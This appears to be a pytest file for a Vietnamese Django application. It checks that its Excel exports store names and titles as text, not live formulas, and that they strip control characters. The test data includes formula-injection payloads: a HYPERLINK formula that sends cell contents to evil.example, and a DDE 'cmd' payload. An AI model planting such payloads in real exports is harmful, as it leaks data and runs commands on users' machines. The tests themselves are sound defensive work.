"""Exports write text as text (never a live formula) and survive control characters stored in
names (issue 9 §4): the model, register and nomination exports read back."""

import datetime
import io

from openpyxl import load_workbook

from danvan.core.interfaces.xlsx import safe_cell, safe_row
from danvan.core.models import Job
from danvan.documents.domain.register import issue_number
from tests.awards.test_nominations import medal, nominate  # noqa: F401 - the fixture is used by name
from tests.conftest import login
from tests.practices.conftest import make_practice

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+1+1", "-2+3", "@SUM(1,2)", "=1+1", "\t=1+2",
            "\r=3+4"]


def _cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _texts(cells) -> dict:
    return {c.value: c.data_type for c in cells if isinstance(c.value, str)}


def test_safe_cell_keeps_plain_values_and_makes_formula_text_a_string():
    assert safe_cell(12) == 12 and safe_cell("Bảo Ái") == "Bảo Ái" and safe_cell(None) is None
    assert safe_cell("Tổ\x0b tự quản\x00") == "Tổ tự quản"
    cell = safe_cell("=1+1")
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)
    assert [type(v).__name__ for v in safe_row(["a", "+1", 3])] == ["str", "Cell", "int"]


def test_model_export_writes_formula_text_as_text_and_survives_a_control_character(
        cast, settings, django_capture_on_commit_callbacks):
    """Through the background job (the export above the threshold), which writes the same sheet."""
    settings.DANVAN_EXPORT_INLINE_MAX = 1
    keys = ["name", "person_name", "situation", "goals", "content", "forces", "outputs"]
    make_practice(cast.front_a, **dict(zip(keys, FORMULAS, strict=True)))
    make_practice(cast.front_a, name="Mô hình\x0b dân vận khéo")
    with django_capture_on_commit_callbacks(execute=True):
        login(cast.commune_a).post("/mo-hinh/xuat-excel/", {})
    job = Job.objects.latest("id")
    assert job.status == Job.Status.SUCCEEDED, job.message
    content = b"".join(login(cast.commune_a).get(f"/cong-viec/{job.pk}/tai-ve/").streaming_content)
    cells = _cells(content)
    texts = _texts(cells)
    assert {text: texts.get(text) for text in FORMULAS} == dict.fromkeys(FORMULAS, "s")
    assert "Mô hình dân vận khéo" in texts
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


def test_register_export_writes_formula_text_as_text(cast):
    from danvan.documents.domain.terms import ensure_default_terms

    ensure_default_terms()
    titles = ["=cmd|' /C calc'!A0", "+Kế hoạch\x0b năm"]
    for title in titles:
        issue_number(organization=cast.commission, doc_type="BC", issued_on=datetime.date(2026, 9, 15), title=title,
                     actor=cast.province)
    cells = _cells(login(cast.province).get("/so-van-ban/xuat-excel/").content)
    texts = _texts(cells)
    assert (texts.get("=cmd|' /C calc'!A0"), texts.get("+Kế hoạch năm")) == ("s", "s")
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


def test_nomination_export_writes_formula_text_as_text(cast, medal):  # noqa: F811
    nominate(cast, medal, name="=1+2")
    nominate(cast, medal, name="@Lò\x0b Thị Hoa")
    cells = _cells(login(cast.province).get("/khen-thuong/danh-sach.xlsx?year=2023").content)
    texts = _texts(cells)
    assert (texts.get("=1+2"), texts.get("@Lò Thị Hoa")) == ("s", "s")
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
